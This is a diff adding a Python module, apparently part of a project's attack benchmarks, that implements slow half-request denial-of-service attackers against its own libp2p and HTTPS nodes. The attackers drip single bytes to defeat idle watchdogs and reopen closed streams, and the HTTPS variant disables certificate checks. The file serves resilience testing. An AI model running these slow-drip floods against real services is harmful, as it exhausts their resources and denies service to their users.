@@ -1,0 +1,128 @@
+"""Attackers that stop halfway: streams, requests and bodies of which the rest never comes.
+
+An attacker has `connections` connections from `parties` subnets, and begins `each` streams or bodies on each of them.
+It sends the first half of one at once, then a byte every `DRIP` seconds, so that no watchdog which waits for one byte
+sees silence. What the other side ends is begun again after `AGAIN` seconds. None of it needs a key.
+"""
+
+import ssl
+from abc import ABC, abstractmethod
+from dataclasses import dataclass
+from typing import Any, Final
+
+import anyio
+
+from benchmarks.attacks.attack import AttackFinding
+from benchmarks.attacks.wire_place import WirePlace
+from echo2._libp2p.custom_types import TProtocol
+from echo2._libp2p.peer.id import ID
+from echo2.p2p.https import routes
+from echo2.p2p.multiaddr import address_of
+from echo2.p2p.peer import rpc
+
+DRIP: Final = 5.0
+AGAIN: Final = 0.5
+ANNOUNCED: Final = 60_000
+"""Bytes that a request announces: fewer than the limit of every method of nodes."""
+GOSSIP: Final = "/meshsub/1.2.0"
+
+
+def half_request(method: str) -> bytes:
+    """Return the first bytes of a request: the frame of its method's name, and the head of a frame that never comes."""
+    return len(method).to_bytes(4, "big") + method.encode() + ANNOUNCED.to_bytes(4, "big") + b"\0"
+
+
+@dataclass
+class Halves(ABC):
+    """An attacker that stops halfway. `begun`: what it began so far. `ended`: what the other side ended."""
+
+    connections: int = 8
+    parties: int = 8
+    each: int = 32
+    begun: int = 0
+    ended: int = 0
+
+    async def run(self, place: WirePlace) -> None:
+        """Begin without end."""
+        for number in range(self.connections):
+            await self.connect(place, f"half {number % self.parties}")
+        await anyio.sleep_forever()
+
+    @abstractmethod
+    async def connect(self, place: WirePlace, party: str) -> None:
+        """Begin `each` streams or bodies from one party."""
+
+    async def keep(self, *parts: Any) -> None:
+        """Keep one stream or body half sent."""
+        while True:
+            self.begun += 1
+            try:
+                await self.send_half(*parts)
+            except Exception:  # upstream raises a dozen types for a stream that was reset
+                self.ended += 1
+            await anyio.sleep(AGAIN)
+
+    @abstractmethod
+    async def send_half(self, *parts: Any) -> None:
+        """Send one half, and drip until the other side ends it."""
+
+    def said(self, place: WirePlace) -> dict[str, float]:
+        """Return what was begun, and what of it the other side ended."""
+        return {"begun": self.begun, "ended": self.ended}
+
+    def finding(self, place: WirePlace) -> AttackFinding:
+        """State the same."""
+        return AttackFinding(tried=self.begun, note=f"{self.ended} ended by the other side")
+
+
+@dataclass
+class HalfStreams(Halves):
+    """Streams over libp2p: of a protocol with the first bytes of a request, or idle (`half` empty)."""
+
+    protocol: str = rpc.PROTOCOL
+    half: bytes = b""
+
+    async def connect(self, place: WirePlace, party: str) -> None:
+        """See `Halves`."""
+        connection = await place.connect(party)
+        transport: Any = getattr(connection.network, "_transport")  # noqa: B009 - raw streams are no part of `Peer`
+        for _ in range(self.each):
+            place.tasks.start_soon(self.keep, transport, connection.to)
+
+    async def send_half(self, transport: Any, peer: str) -> None:
+        """See `Halves`."""
+        stream = await transport.host.new_stream(ID.from_string(peer), [TProtocol(self.protocol)])
+        await stream.write(self.half)
+        while not stream.muxed_stream.is_closed:
+            await anyio.sleep(DRIP)
+            if self.half:
+                await stream.write(b"\0")
+
+
+@dataclass
+class HalfBodies(Halves):
+    """Bodies of requests over HTTPS at `address`, each over a connection of its own."""
+
+    address: str = ""
+    method: str = "submit"
+
+    async def connect(self, place: WirePlace, party: str) -> None:
+        """See `Halves`."""
+        for _ in range(self.each):
+            place.tasks.start_soon(self.keep, place.source(party))
+
+    async def send_half(self, source: str) -> None:
+        """See `Halves`."""
+        context = ssl.create_default_context()
+        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+        host, port = address_of(self.address).host, address_of(self.address).port or 0
+        async with await anyio.connect_tcp(
+            host, port, local_host=source, ssl_context=context, tls_standard_compatible=False
+        ) as stream:
+            head = f"POST {routes.RPC}{self.method} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {ANNOUNCED}\r\n\r\n"
+            await stream.send(head.encode())
+            while True:
+                await stream.send(b"\0")
+                with anyio.move_on_after(DRIP):
+                    await stream.receive()
+                    return
